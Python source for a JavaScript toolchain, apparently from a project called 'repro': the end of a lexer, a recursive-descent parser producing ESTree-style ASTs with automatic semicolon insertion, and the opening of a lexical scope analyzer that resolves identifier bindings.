        self.index += width
        return chr(int(digits, 16))

    def _lex_template(self, start: int, line: int, column: int) -> Token:
        """Lex a template literal *without substitutions* as a single token.

        Templates containing ``${`` are rejected — the parser targets the
        corpus subset, and the generators never emit substitutions.
        """
        self.index += 1
        chars: list[str] = []
        while True:
            if self.index >= self.length:
                raise self._error("Unterminated template literal")
            ch = self.source[self.index]
            if ch == "`":
                self.index += 1
                break
            if ch == "$" and self._peek(1) == "{":
                raise self._error("Template substitutions are not supported")
            if ch == "\\":
                chars.append(self._lex_escape())
            elif ch in _LINE_TERMINATORS:
                chars.append("\n")
                self._advance_line(ch)
                self._newline_before_next = False
            else:
                chars.append(ch)
                self.index += 1
        return self._make_token(TokenType.TEMPLATE, "".join(chars), start, line, column)

    def _regex_allowed(self) -> bool:
        """Decide whether a ``/`` at the cursor begins a regex literal."""
        for token in reversed(self._tokens):
            if token.type is TokenType.PUNCTUATOR:
                return token.value not in _REGEX_FORBIDDEN_PUNCTUATORS
            if token.type is TokenType.KEYWORD:
                return token.value in _REGEX_ALLOWED_KEYWORDS
            return token.type not in (
                TokenType.IDENTIFIER,
                TokenType.NUMERIC,
                TokenType.STRING,
                TokenType.TEMPLATE,
                TokenType.BOOLEAN,
                TokenType.NULL,
                TokenType.REGEXP,
            )
        return True  # start of file

    def _lex_regex(self, start: int, line: int, column: int) -> Token:
        self.index += 1  # opening /
        in_class = False
        while True:
            if self.index >= self.length:
                raise self._error("Unterminated regular expression")
            ch = self.source[self.index]
            if ch in _LINE_TERMINATORS:
                raise self._error("Unterminated regular expression")
            if ch == "\\":
                self.index += 2
                continue
            if ch == "[":
                in_class = True
            elif ch == "]":
                in_class = False
            elif ch == "/" and not in_class:
                self.index += 1
                break
            self.index += 1
        while self.index < self.length and _is_id_part(self.source[self.index]):
            self.index += 1  # flags
        return self._make_token(TokenType.REGEXP, self.source[start : self.index], start, line, column)

    def _lex_punctuator(self, start: int, line: int, column: int) -> Token:
        rest = self.source[self.index : self.index + 4]
        for punct in PUNCTUATORS:
            if rest.startswith(punct):
                self.index += len(punct)
                return self._make_token(TokenType.PUNCTUATOR, punct, start, line, column)
        raise self._error(f"Unexpected character {self.source[self.index]!r}")


def tokenize(source: str) -> list[Token]:
    """Convenience wrapper: lex ``source`` and return its tokens."""
    return Lexer(source).tokenize()
