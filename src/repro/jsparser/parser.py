"""Recursive-descent parser producing ESTree-compatible ASTs.

Grammar coverage: the full ES5.1 statement and expression grammar, plus the
ES2015 constructs used in modern corpora — ``let``/``const``, arrow
functions, ``for…of``, spread arguments, shorthand object properties, and
substitution-free template literals.  Automatic semicolon insertion follows
the spec's three rules (offending token on a new line, ``}``, or EOF, plus
the restricted productions for ``return``/``throw``/``break``/``continue``
and postfix ``++``/``--``).
"""

from __future__ import annotations

from . import ast_nodes as ast
from .errors import JSSyntaxError
from .lexer import Lexer
from .tokens import Token, TokenType

# Binary operator precedence, mirroring the ECMAScript table.
_BINARY_PRECEDENCE = {
    "??": 1,
    "||": 2,
    "&&": 3,
    "|": 4,
    "^": 5,
    "&": 6,
    "==": 7,
    "!=": 7,
    "===": 7,
    "!==": 7,
    "<": 8,
    ">": 8,
    "<=": 8,
    ">=": 8,
    "instanceof": 8,
    "in": 8,
    "<<": 9,
    ">>": 9,
    ">>>": 9,
    "+": 10,
    "-": 10,
    "*": 11,
    "/": 11,
    "%": 11,
    "**": 12,
}

_LOGICAL_OPERATORS = frozenset({"&&", "||", "??"})

_ASSIGNMENT_OPERATORS = frozenset(
    {"=", "+=", "-=", "*=", "/=", "%=", "<<=", ">>=", ">>>=", "&=", "|=", "^=", "**=", "&&=", "||=", "??="}
)

_UNARY_OPERATORS = frozenset({"+", "-", "!", "~", "typeof", "void", "delete"})


class Parser:
    """Parses a token stream into a :class:`repro.jsparser.ast_nodes.Program`."""

    def __init__(self, source: str):
        self.source = source
        self._lexer = Lexer(source)
        self.tokens = self._lexer.tokenize()
        self.pos = 0
        self._in_iteration = 0
        self._in_switch = 0
        self._in_function = 0
        # `in` is not a binary operator inside a for-statement header.
        self._no_in = False

    # ------------------------------------------------------------------ API

    def parse(self) -> ast.Program:
        """Parse the whole source as a Program (script goal)."""
        body: list[ast.Node] = []
        while not self._at(TokenType.EOF):
            body.append(self._parse_statement())
        return ast.Program(body, loc=(1, 0))

    @property
    def comments(self):
        """Source comments collected during lexing (:class:`~repro.jsparser.lexer.Comment`)."""
        return self._lexer.comments

    # --------------------------------------------------------- token helpers

    @property
    def _cur(self) -> Token:
        return self.tokens[self.pos]

    def _peek(self, offset: int = 1) -> Token:
        i = min(self.pos + offset, len(self.tokens) - 1)
        return self.tokens[i]

    def _at(self, type_: TokenType, value: str | None = None) -> bool:
        return self._cur.matches(type_, value)

    def _at_punct(self, value: str) -> bool:
        return self._cur.matches(TokenType.PUNCTUATOR, value)

    def _at_keyword(self, value: str) -> bool:
        return self._cur.matches(TokenType.KEYWORD, value)

    def _advance(self) -> Token:
        token = self._cur
        if token.type is not TokenType.EOF:
            self.pos += 1
        return token

    def _expect(self, type_: TokenType, value: str | None = None) -> Token:
        if not self._at(type_, value):
            raise self._error(f"Expected {value or type_.value}, got {self._cur.value!r}")
        return self._advance()

    def _expect_punct(self, value: str) -> Token:
        return self._expect(TokenType.PUNCTUATOR, value)

    def _eat_punct(self, value: str) -> bool:
        if self._at_punct(value):
            self._advance()
            return True
        return False

    def _error(self, message: str) -> JSSyntaxError:
        token = self._cur
        return JSSyntaxError(message, token.line, token.column, token.start)

    def _loc(self) -> tuple[int, int]:
        return (self._cur.line, self._cur.column)

    def _consume_semicolon(self) -> None:
        """Consume ``;`` applying automatic semicolon insertion rules."""
        if self._eat_punct(";"):
            return
        if self._at_punct("}") or self._at(TokenType.EOF) or self._cur.preceded_by_newline:
            return
        raise self._error(f"Expected ';', got {self._cur.value!r}")

    # ------------------------------------------------------------ statements

    def _parse_statement(self) -> ast.Node:
        loc = self._loc()
        if self._at(TokenType.PUNCTUATOR):
            if self._at_punct("{"):
                return self._parse_block()
            if self._at_punct(";"):
                self._advance()
                return ast.EmptyStatement(loc)
        if self._at(TokenType.KEYWORD):
            keyword = self._cur.value
            handler = getattr(self, f"_parse_{keyword}_statement", None)
            if handler is not None:
                return handler()
        if (
            self._at(TokenType.IDENTIFIER)
            and self._peek().matches(TokenType.PUNCTUATOR, ":")
        ):
            label = ast.Identifier(self._advance().value, loc)
            self._advance()  # ':'
            return ast.LabeledStatement(label, self._parse_statement(), loc)
        expression = self._parse_expression()
        self._consume_semicolon()
        return ast.ExpressionStatement(expression, loc)

    def _parse_block(self) -> ast.BlockStatement:
        loc = self._loc()
        self._expect_punct("{")
        body: list[ast.Node] = []
        while not self._at_punct("}"):
            if self._at(TokenType.EOF):
                raise self._error("Unterminated block")
            body.append(self._parse_statement())
        self._advance()
        return ast.BlockStatement(body, loc)

    def _parse_var_statement(self) -> ast.Node:
        declaration = self._parse_variable_declaration()
        self._consume_semicolon()
        return declaration

    _parse_let_statement = _parse_var_statement
    _parse_const_statement = _parse_var_statement

    def _parse_variable_declaration(self) -> ast.VariableDeclaration:
        loc = self._loc()
        kind = self._advance().value  # var / let / const
        declarations = [self._parse_variable_declarator()]
        while self._eat_punct(","):
            declarations.append(self._parse_variable_declarator())
        return ast.VariableDeclaration(declarations, kind, loc)

    def _parse_variable_declarator(self) -> ast.VariableDeclarator:
        loc = self._loc()
        name = self._parse_binding_identifier()
        init = None
        if self._eat_punct("="):
            init = self._parse_assignment_expression()
        return ast.VariableDeclarator(name, init, loc)

    def _parse_binding_identifier(self) -> ast.Identifier:
        loc = self._loc()
        if self._at(TokenType.IDENTIFIER):
            return ast.Identifier(self._advance().value, loc)
        # `let` / `yield` are contextually valid identifiers in sloppy mode.
        if self._at(TokenType.KEYWORD) and self._cur.value in ("let", "yield"):
            return ast.Identifier(self._advance().value, loc)
        raise self._error(f"Expected identifier, got {self._cur.value!r}")

    def _parse_if_statement(self) -> ast.IfStatement:
        loc = self._loc()
        self._advance()
        self._expect_punct("(")
        test = self._parse_expression()
        self._expect_punct(")")
        consequent = self._parse_statement()
        alternate = None
        if self._at_keyword("else"):
            self._advance()
            alternate = self._parse_statement()
        return ast.IfStatement(test, consequent, alternate, loc)

    def _parse_for_statement(self) -> ast.Node:
        loc = self._loc()
        self._advance()
        self._expect_punct("(")

        init: ast.Node | None = None
        if not self._at_punct(";"):
            self._no_in = True
            try:
                if self._at(TokenType.KEYWORD) and self._cur.value in ("var", "let", "const"):
                    init = self._parse_variable_declaration()
                else:
                    init = self._parse_expression()
            finally:
                self._no_in = False
            if self._at_keyword("in") or self._at(TokenType.IDENTIFIER, ) and self._cur.value == "of":
                pass  # handled below
        if init is not None and (self._at_keyword("in") or (self._at(TokenType.IDENTIFIER) and self._cur.value == "of")):
            is_of = self._cur.value == "of"
            self._advance()
            right = self._parse_assignment_expression() if is_of else self._parse_expression()
            self._expect_punct(")")
            self._in_iteration += 1
            try:
                body = self._parse_statement()
            finally:
                self._in_iteration -= 1
            cls = ast.ForOfStatement if is_of else ast.ForInStatement
            return cls(init, right, body, loc)

        self._expect_punct(";")
        test = None if self._at_punct(";") else self._parse_expression()
        self._expect_punct(";")
        update = None if self._at_punct(")") else self._parse_expression()
        self._expect_punct(")")
        self._in_iteration += 1
        try:
            body = self._parse_statement()
        finally:
            self._in_iteration -= 1
        return ast.ForStatement(init, test, update, body, loc)

    def _parse_while_statement(self) -> ast.WhileStatement:
        loc = self._loc()
        self._advance()
        self._expect_punct("(")
        test = self._parse_expression()
        self._expect_punct(")")
        self._in_iteration += 1
        try:
            body = self._parse_statement()
        finally:
            self._in_iteration -= 1
        return ast.WhileStatement(test, body, loc)

    def _parse_do_statement(self) -> ast.DoWhileStatement:
        loc = self._loc()
        self._advance()
        self._in_iteration += 1
        try:
            body = self._parse_statement()
        finally:
            self._in_iteration -= 1
        self._expect(TokenType.KEYWORD, "while")
        self._expect_punct("(")
        test = self._parse_expression()
        self._expect_punct(")")
        self._eat_punct(";")
        return ast.DoWhileStatement(body, test, loc)

    def _parse_return_statement(self) -> ast.ReturnStatement:
        loc = self._loc()
        self._advance()
        argument = None
        if (
            not self._at_punct(";")
            and not self._at_punct("}")
            and not self._at(TokenType.EOF)
            and not self._cur.preceded_by_newline
        ):
            argument = self._parse_expression()
        self._consume_semicolon()
        return ast.ReturnStatement(argument, loc)

    def _parse_break_statement(self) -> ast.BreakStatement:
        loc = self._loc()
        self._advance()
        label = None
        if self._at(TokenType.IDENTIFIER) and not self._cur.preceded_by_newline:
            label_loc = self._loc()
            label = ast.Identifier(self._advance().value, label_loc)
        self._consume_semicolon()
        return ast.BreakStatement(label, loc)

    def _parse_continue_statement(self) -> ast.ContinueStatement:
        loc = self._loc()
        self._advance()
        label = None
        if self._at(TokenType.IDENTIFIER) and not self._cur.preceded_by_newline:
            label_loc = self._loc()
            label = ast.Identifier(self._advance().value, label_loc)
        self._consume_semicolon()
        return ast.ContinueStatement(label, loc)

    def _parse_throw_statement(self) -> ast.ThrowStatement:
        loc = self._loc()
        self._advance()
        if self._cur.preceded_by_newline:
            raise self._error("Illegal newline after throw")
        argument = self._parse_expression()
        self._consume_semicolon()
        return ast.ThrowStatement(argument, loc)

    def _parse_try_statement(self) -> ast.TryStatement:
        loc = self._loc()
        self._advance()
        block = self._parse_block()
        handler = None
        finalizer = None
        if self._at_keyword("catch"):
            handler_loc = self._loc()
            self._advance()
            param = None
            if self._eat_punct("("):
                param = self._parse_binding_identifier()
                self._expect_punct(")")
            handler = ast.CatchClause(param, self._parse_block(), handler_loc)
        if self._at_keyword("finally"):
            self._advance()
            finalizer = self._parse_block()
        if handler is None and finalizer is None:
            raise self._error("Missing catch or finally after try")
        return ast.TryStatement(block, handler, finalizer, loc)

    def _parse_switch_statement(self) -> ast.SwitchStatement:
        loc = self._loc()
        self._advance()
        self._expect_punct("(")
        discriminant = self._parse_expression()
        self._expect_punct(")")
        self._expect_punct("{")
        cases: list[ast.SwitchCase] = []
        seen_default = False
        self._in_switch += 1
        try:
            while not self._at_punct("}"):
                case_loc = self._loc()
                if self._at_keyword("case"):
                    self._advance()
                    test = self._parse_expression()
                elif self._at_keyword("default"):
                    if seen_default:
                        raise self._error("Multiple default clauses")
                    seen_default = True
                    self._advance()
                    test = None
                else:
                    raise self._error("Expected case or default")
                self._expect_punct(":")
                consequent: list[ast.Node] = []
                while not (
                    self._at_punct("}")
                    or self._at_keyword("case")
                    or self._at_keyword("default")
                ):
                    consequent.append(self._parse_statement())
                cases.append(ast.SwitchCase(test, consequent, case_loc))
        finally:
            self._in_switch -= 1
        self._expect_punct("}")
        return ast.SwitchStatement(discriminant, cases, loc)

    def _parse_with_statement(self) -> ast.WithStatement:
        loc = self._loc()
        self._advance()
        self._expect_punct("(")
        obj = self._parse_expression()
        self._expect_punct(")")
        return ast.WithStatement(obj, self._parse_statement(), loc)

    def _parse_debugger_statement(self) -> ast.DebuggerStatement:
        loc = self._loc()
        self._advance()
        self._consume_semicolon()
        return ast.DebuggerStatement(loc)

    def _parse_function_statement(self) -> ast.FunctionDeclaration:
        loc = self._loc()
        self._advance()  # 'function'
        name = self._parse_binding_identifier()
        params = self._parse_params()
        body = self._parse_function_body()
        return ast.FunctionDeclaration(name, params, body, loc)

    def _parse_params(self) -> list[ast.Node]:
        self._expect_punct("(")
        params: list[ast.Node] = []
        while not self._at_punct(")"):
            if params:
                self._expect_punct(",")
                if self._at_punct(")"):  # trailing comma
                    break
            if self._at_punct("..."):
                rest_loc = self._loc()
                self._advance()
                params.append(ast.SpreadElement(self._parse_binding_identifier(), rest_loc))
            else:
                params.append(self._parse_binding_identifier())
        self._expect_punct(")")
        return params

    def _parse_function_body(self) -> ast.BlockStatement:
        self._in_function += 1
        saved_iteration, saved_switch = self._in_iteration, self._in_switch
        self._in_iteration = self._in_switch = 0
        try:
            return self._parse_block()
        finally:
            self._in_function -= 1
            self._in_iteration, self._in_switch = saved_iteration, saved_switch

    # ----------------------------------------------------------- expressions

    def _parse_expression(self) -> ast.Node:
        loc = self._loc()
        expression = self._parse_assignment_expression()
        if not self._at_punct(","):
            return expression
        expressions = [expression]
        while self._eat_punct(","):
            expressions.append(self._parse_assignment_expression())
        return ast.SequenceExpression(expressions, loc)

    def _parse_assignment_expression(self) -> ast.Node:
        arrow = self._try_parse_arrow_function()
        if arrow is not None:
            return arrow
        loc = self._loc()
        left = self._parse_conditional_expression()
        if self._at(TokenType.PUNCTUATOR) and self._cur.value in _ASSIGNMENT_OPERATORS:
            if left.type not in ("Identifier", "MemberExpression"):
                raise self._error("Invalid assignment target")
            operator = self._advance().value
            right = self._parse_assignment_expression()
            return ast.AssignmentExpression(operator, left, right, loc)
        return left

    def _try_parse_arrow_function(self) -> ast.ArrowFunctionExpression | None:
        """Parse ``x => …`` / ``(a, b) => …`` when the cursor sits on one."""
        loc = self._loc()
        if self._at(TokenType.IDENTIFIER) and self._peek().matches(TokenType.PUNCTUATOR, "=>"):
            params = [ast.Identifier(self._advance().value, loc)]
            self._advance()  # '=>'
            return self._finish_arrow(params, loc)
        if self._at_punct("(") and self._arrow_params_ahead():
            params = self._parse_params()
            self._expect_punct("=>")
            return self._finish_arrow(params, loc)
        return None

    def _arrow_params_ahead(self) -> bool:
        """Lookahead: does the parenthesized group end with ``) =>``?"""
        depth = 0
        i = self.pos
        while i < len(self.tokens):
            token = self.tokens[i]
            if token.matches(TokenType.PUNCTUATOR, "("):
                depth += 1
            elif token.matches(TokenType.PUNCTUATOR, ")"):
                depth -= 1
                if depth == 0:
                    return self.tokens[i + 1].matches(TokenType.PUNCTUATOR, "=>") if i + 1 < len(self.tokens) else False
            elif token.type is TokenType.EOF:
                return False
            elif depth == 1 and token.type is TokenType.PUNCTUATOR and token.value in ("{", "["):
                return False  # destructuring params unsupported; treat as paren expr
            i += 1
        return False

    def _finish_arrow(self, params: list[ast.Node], loc: tuple[int, int]) -> ast.ArrowFunctionExpression:
        if self._at_punct("{"):
            body: ast.Node = self._parse_function_body()
            return ast.ArrowFunctionExpression(params, body, expression=False, loc=loc)
        body = self._parse_assignment_expression()
        return ast.ArrowFunctionExpression(params, body, expression=True, loc=loc)

    def _parse_conditional_expression(self) -> ast.Node:
        loc = self._loc()
        test = self._parse_binary_expression(0)
        if not self._at_punct("?"):
            return test
        self._advance()
        saved_no_in, self._no_in = self._no_in, False
        consequent = self._parse_assignment_expression()
        self._no_in = saved_no_in
        self._expect_punct(":")
        alternate = self._parse_assignment_expression()
        return ast.ConditionalExpression(test, consequent, alternate, loc)

    def _binary_operator(self) -> str | None:
        token = self._cur
        if token.type is TokenType.PUNCTUATOR and token.value in _BINARY_PRECEDENCE:
            return token.value
        if token.type is TokenType.KEYWORD and token.value == "instanceof":
            return token.value
        if token.type is TokenType.KEYWORD and token.value == "in" and not self._no_in:
            return token.value
        return None

    def _parse_binary_expression(self, min_precedence: int) -> ast.Node:
        loc = self._loc()
        left = self._parse_unary_expression()
        while True:
            operator = self._binary_operator()
            if operator is None:
                return left
            precedence = _BINARY_PRECEDENCE[operator]
            if precedence < min_precedence:
                return left
            self._advance()
            # '**' is right-associative; everything else is left-associative.
            next_min = precedence if operator == "**" else precedence + 1
            right = self._parse_binary_expression(next_min)
            cls = ast.LogicalExpression if operator in _LOGICAL_OPERATORS else ast.BinaryExpression
            left = cls(operator, left, right, loc)

    def _parse_unary_expression(self) -> ast.Node:
        loc = self._loc()
        token = self._cur
        if (token.type is TokenType.PUNCTUATOR and token.value in ("+", "-", "!", "~")) or (
            token.type is TokenType.KEYWORD and token.value in ("typeof", "void", "delete")
        ):
            operator = self._advance().value
            argument = self._parse_unary_expression()
            return ast.UnaryExpression(operator, argument, loc)
        if token.type is TokenType.PUNCTUATOR and token.value in ("++", "--"):
            operator = self._advance().value
            argument = self._parse_unary_expression()
            return ast.UpdateExpression(operator, argument, prefix=True, loc=loc)
        return self._parse_postfix_expression()

    def _parse_postfix_expression(self) -> ast.Node:
        loc = self._loc()
        expression = self._parse_left_hand_side()
        if (
            self._at(TokenType.PUNCTUATOR)
            and self._cur.value in ("++", "--")
            and not self._cur.preceded_by_newline
        ):
            operator = self._advance().value
            return ast.UpdateExpression(operator, expression, prefix=False, loc=loc)
        return expression

    def _parse_left_hand_side(self) -> ast.Node:
        if self._at_keyword("new"):
            expression = self._parse_new_expression()
        else:
            expression = self._parse_primary_expression()
        return self._parse_call_tail(expression)

    def _parse_new_expression(self) -> ast.Node:
        loc = self._loc()
        self._advance()  # 'new'
        if self._at_keyword("new"):
            callee: ast.Node = self._parse_new_expression()
        else:
            callee = self._parse_primary_expression()
            callee = self._parse_member_tail(callee)
        arguments: list[ast.Node] = []
        if self._at_punct("("):
            arguments = self._parse_arguments()
        return ast.NewExpression(callee, arguments, loc)

    def _parse_member_tail(self, expression: ast.Node) -> ast.Node:
        """Member accesses only (no calls) — used for `new X.Y(...)` callees.

        ESTree span semantics: a member/call expression starts where its
        object/callee starts, and a property identifier sits at its own
        token — not at the ``.``/``[`` punctuator.
        """
        while True:
            if self._eat_punct("."):
                prop_loc = self._loc()
                prop = ast.Identifier(self._parse_property_name(), prop_loc)
                expression = ast.MemberExpression(expression, prop, computed=False, loc=expression.loc)
            elif self._at_punct("["):
                self._advance()
                saved_no_in, self._no_in = self._no_in, False
                prop_expr = self._parse_expression()
                self._no_in = saved_no_in
                self._expect_punct("]")
                expression = ast.MemberExpression(expression, prop_expr, computed=True, loc=expression.loc)
            else:
                return expression

    def _parse_call_tail(self, expression: ast.Node) -> ast.Node:
        while True:
            if self._eat_punct("."):
                prop_loc = self._loc()
                prop = ast.Identifier(self._parse_property_name(), prop_loc)
                expression = ast.MemberExpression(expression, prop, computed=False, loc=expression.loc)
            elif self._at_punct("["):
                self._advance()
                saved_no_in, self._no_in = self._no_in, False
                prop_expr = self._parse_expression()
                self._no_in = saved_no_in
                self._expect_punct("]")
                expression = ast.MemberExpression(expression, prop_expr, computed=True, loc=expression.loc)
            elif self._at_punct("("):
                expression = ast.CallExpression(expression, self._parse_arguments(), expression.loc)
            else:
                return expression

    def _parse_property_name(self) -> str:
        """Property names after ``.`` may be keywords (``a.delete``)."""
        token = self._cur
        if token.type in (TokenType.IDENTIFIER, TokenType.KEYWORD, TokenType.BOOLEAN, TokenType.NULL):
            return self._advance().value
        raise self._error(f"Expected property name, got {token.value!r}")

    def _parse_arguments(self) -> list[ast.Node]:
        self._expect_punct("(")
        saved_no_in, self._no_in = self._no_in, False
        arguments: list[ast.Node] = []
        while not self._at_punct(")"):
            if arguments:
                self._expect_punct(",")
                if self._at_punct(")"):  # trailing comma
                    break
            if self._at_punct("..."):
                spread_loc = self._loc()
                self._advance()
                arguments.append(ast.SpreadElement(self._parse_assignment_expression(), spread_loc))
            else:
                arguments.append(self._parse_assignment_expression())
        self._expect_punct(")")
        self._no_in = saved_no_in
        return arguments

    def _parse_primary_expression(self) -> ast.Node:
        loc = self._loc()
        token = self._cur

        if token.type is TokenType.IDENTIFIER:
            self._advance()
            return ast.Identifier(token.value, loc)
        if token.type is TokenType.NUMERIC:
            self._advance()
            return ast.Literal(self._numeric_value(token.value), token.raw, loc)
        if token.type is TokenType.STRING:
            self._advance()
            return ast.Literal(token.value, token.raw, loc)
        if token.type is TokenType.TEMPLATE:
            self._advance()
            return ast.TemplateLiteral(token.value, loc)
        if token.type is TokenType.BOOLEAN:
            self._advance()
            return ast.Literal(token.value == "true", token.raw, loc)
        if token.type is TokenType.NULL:
            self._advance()
            return ast.Literal(None, token.raw, loc)
        if token.type is TokenType.REGEXP:
            self._advance()
            body, _, flags = token.value.rpartition("/")
            return ast.RegExpLiteral(body[1:], flags, token.raw, loc)

        if token.type is TokenType.KEYWORD:
            if token.value == "this":
                self._advance()
                return ast.ThisExpression(loc)
            if token.value == "function":
                return self._parse_function_expression()
            if token.value in ("let", "yield"):  # contextual identifiers
                self._advance()
                return ast.Identifier(token.value, loc)

        if self._at_punct("("):
            self._advance()
            saved_no_in, self._no_in = self._no_in, False
            expression = self._parse_expression()
            self._no_in = saved_no_in
            self._expect_punct(")")
            return expression
        if self._at_punct("["):
            return self._parse_array_literal()
        if self._at_punct("{"):
            return self._parse_object_literal()

        raise self._error(f"Unexpected token {token.value!r}")

    @staticmethod
    def _numeric_value(raw: str) -> float | int:
        lowered = raw.lower()
        if lowered.startswith("0x"):
            return int(lowered, 16)
        if lowered.startswith("0o"):
            return int(lowered, 8)
        if lowered.startswith("0b"):
            return int(lowered, 2)
        value = float(raw)
        return int(value) if value.is_integer() and "e" not in lowered and "." not in raw else value

    def _parse_function_expression(self) -> ast.FunctionExpression:
        loc = self._loc()
        self._advance()  # 'function'
        name = None
        if self._at(TokenType.IDENTIFIER):
            name_loc = self._loc()
            name = ast.Identifier(self._advance().value, name_loc)
        params = self._parse_params()
        body = self._parse_function_body()
        return ast.FunctionExpression(name, params, body, loc)

    def _parse_array_literal(self) -> ast.ArrayExpression:
        loc = self._loc()
        self._expect_punct("[")
        saved_no_in, self._no_in = self._no_in, False
        elements: list[ast.Node | None] = []
        while not self._at_punct("]"):
            if self._at_punct(","):
                self._advance()
                elements.append(None)  # elision
                continue
            if self._at_punct("..."):
                spread_loc = self._loc()
                self._advance()
                elements.append(ast.SpreadElement(self._parse_assignment_expression(), spread_loc))
            else:
                elements.append(self._parse_assignment_expression())
            if not self._at_punct("]"):
                self._expect_punct(",")
        self._advance()
        self._no_in = saved_no_in
        # Trailing elision after a final comma is represented by the comma
        # handling above; drop one trailing None that came from `[a,]`.
        if elements and elements[-1] is None:
            elements.pop()
        return ast.ArrayExpression(elements, loc)

    def _parse_object_literal(self) -> ast.ObjectExpression:
        loc = self._loc()
        self._expect_punct("{")
        saved_no_in, self._no_in = self._no_in, False
        properties: list[ast.Property] = []
        while not self._at_punct("}"):
            if properties:
                self._expect_punct(",")
                if self._at_punct("}"):  # trailing comma
                    break
            properties.append(self._parse_property())
        self._advance()
        self._no_in = saved_no_in
        return properties and ast.ObjectExpression(properties, loc) or ast.ObjectExpression([], loc)

    def _parse_property(self) -> ast.Property:
        loc = self._loc()
        token = self._cur

        # get / set accessors: `get name() {...}`
        if (
            token.type is TokenType.IDENTIFIER
            and token.value in ("get", "set")
            and not self._peek().matches(TokenType.PUNCTUATOR, ":")
            and not self._peek().matches(TokenType.PUNCTUATOR, ",")
            and not self._peek().matches(TokenType.PUNCTUATOR, "}")
            and not self._peek().matches(TokenType.PUNCTUATOR, "(")
        ):
            kind = self._advance().value
            key = self._parse_property_key()
            params = self._parse_params()
            body = self._parse_function_body()
            fn = ast.FunctionExpression(None, params, body, loc)
            return ast.Property(key, fn, kind=kind, loc=loc)

        computed = False
        if self._at_punct("["):
            self._advance()
            key: ast.Node = self._parse_assignment_expression()
            self._expect_punct("]")
            computed = True
        else:
            key = self._parse_property_key()

        if self._at_punct("("):  # shorthand method: `name() {...}`
            params = self._parse_params()
            body = self._parse_function_body()
            fn = ast.FunctionExpression(None, params, body, loc)
            return ast.Property(key, fn, kind="init", computed=computed, loc=loc)
        if self._eat_punct(":"):
            value = self._parse_assignment_expression()
            return ast.Property(key, value, kind="init", computed=computed, loc=loc)
        # shorthand `{name}`
        if isinstance(key, ast.Identifier):
            return ast.Property(key, ast.Identifier(key.name, loc), kind="init", loc=loc)
        raise self._error("Invalid shorthand property")

    def _parse_property_key(self) -> ast.Node:
        loc = self._loc()
        token = self._cur
        if token.type in (TokenType.IDENTIFIER, TokenType.KEYWORD, TokenType.BOOLEAN, TokenType.NULL):
            self._advance()
            return ast.Identifier(token.value, loc)
        if token.type is TokenType.STRING:
            self._advance()
            return ast.Literal(token.value, token.raw, loc)
        if token.type is TokenType.NUMERIC:
            self._advance()
            return ast.Literal(self._numeric_value(token.value), token.raw, loc)
        raise self._error(f"Invalid property key {token.value!r}")


def parse(source: str) -> ast.Program:
    """Parse JavaScript ``source`` into an ESTree-style :class:`Program`."""
    return Parser(source).parse()


def parse_with_comments(source: str):
    """Parse ``source``; returns ``(Program, comments)``.

    The comment list drives per-line suppression directives in
    :mod:`repro.analysis` and is ignored by every other consumer.
    """
    parser = Parser(source)
    program = parser.parse()
    return program, parser.comments
