"""Lexical scope analysis.

Builds a scope tree (global scope + one scope per function, plus block
scopes for ``let``/``const``) and resolves every ``Identifier`` reference to
its declaration.  Consumers:

* :mod:`repro.dataflow` uses the binding resolution to connect definitions
  and uses of the same variable (the enhanced-AST data-dependency edges).
* :mod:`repro.obfuscation` uses it to rename variables consistently without
  capturing globals like ``document`` or ``eval``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterator

from . import ast_nodes as ast


@dataclass
class Binding:
    """A declared variable, function, or parameter.

    ``declarations`` lists *every* declaration site: sloppy-mode JS allows
    repeated ``var x`` for the same binding, and a renamer must rename all
    of them together.  ``declaration`` remains the first site.
    """

    name: str
    kind: str  # "var" | "let" | "const" | "function" | "param" | "catch"
    scope: "Scope"
    declaration: ast.Node
    references: list[ast.Identifier] = field(default_factory=list)
    declarations: list[ast.Node] = field(default_factory=list)

    def __post_init__(self) -> None:
        if not self.declarations:
            self.declarations = [self.declaration]


class Scope:
    """One lexical scope; holds bindings and child scopes."""

    def __init__(self, kind: str, node: ast.Node, parent: "Scope | None" = None):
        self.kind = kind  # "global" | "function" | "block" | "catch"
        self.node = node
        self.parent = parent
        self.children: list[Scope] = []
        self.bindings: dict[str, Binding] = {}
        if parent is not None:
            parent.children.append(self)

    def declare(self, name: str, kind: str, declaration: ast.Node) -> Binding:
        """Add (or merge) a binding in this scope.

        A repeated declaration of the same name (sloppy-mode ``var x``
        twice) merges into the existing binding, recording the extra
        declaration site.
        """
        if name in self.bindings:
            binding = self.bindings[name]
            if declaration not in binding.declarations:
                binding.declarations.append(declaration)
            return binding
        binding = Binding(name, kind, self, declaration)
        self.bindings[name] = binding
        return binding

    def resolve(self, name: str) -> Binding | None:
        """Look up a name through the scope chain."""
        scope: Scope | None = self
        while scope is not None:
            if name in scope.bindings:
                return scope.bindings[name]
            scope = scope.parent
        return None

    def hoist_target(self) -> "Scope":
        """The nearest function (or global) scope, for ``var`` hoisting."""
        scope: Scope = self
        while scope.kind not in ("function", "global"):
            assert scope.parent is not None
            scope = scope.parent
        return scope

    def iter_scopes(self) -> Iterator["Scope"]:
        """This scope and all descendants, pre-order."""
        yield self
        for child in self.children:
            yield from child.iter_scopes()

    def all_binding_names(self) -> set[str]:
        """Names bound in this scope or any enclosing scope."""
        names: set[str] = set()
        scope: Scope | None = self
        while scope is not None:
            names.update(scope.bindings)
            scope = scope.parent
        return names


class ScopeAnalyzer:
    """Two-pass scope construction: declarations first, then references."""

    def __init__(self, program: ast.Program):
        self.program = program
        self.global_scope = Scope("global", program)
        #: Maps id(node) -> scope for function/block nodes that open scopes.
        self.scope_of_node: dict[int, Scope] = {id(program): self.global_scope}
        #: Maps id(Identifier) -> Binding for resolved references.
        self.binding_of_ref: dict[int, Binding] = {}
        #: Identifiers that resolved to nothing (globals like `document`).
        self.unresolved: list[ast.Identifier] = []

    def analyze(self) -> Scope:
        self._declare_in_scope(self.program.body, self.global_scope)
        self._resolve_references()
        return self.global_scope

    # ----------------------------------------------------------- declaration

    def _declare_in_scope(self, body: list[ast.Node], scope: Scope) -> None:
        for stmt in body:
            self._declare_stmt(stmt, scope)

    def _declare_stmt(self, node: ast.Node | None, scope: Scope) -> None:
        if node is None:
            return
        type_ = node.type

        if type_ == "FunctionDeclaration":
            scope.hoist_target().declare(node.id.name, "function", node)
            self._enter_function(node, scope)
            return
        if type_ == "VariableDeclaration":
            target = scope if node.kind in ("let", "const") else scope.hoist_target()
            for declarator in node.declarations:
                target.declare(declarator.id.name, node.kind, declarator)
                self._declare_expr(declarator.init, scope)
            return
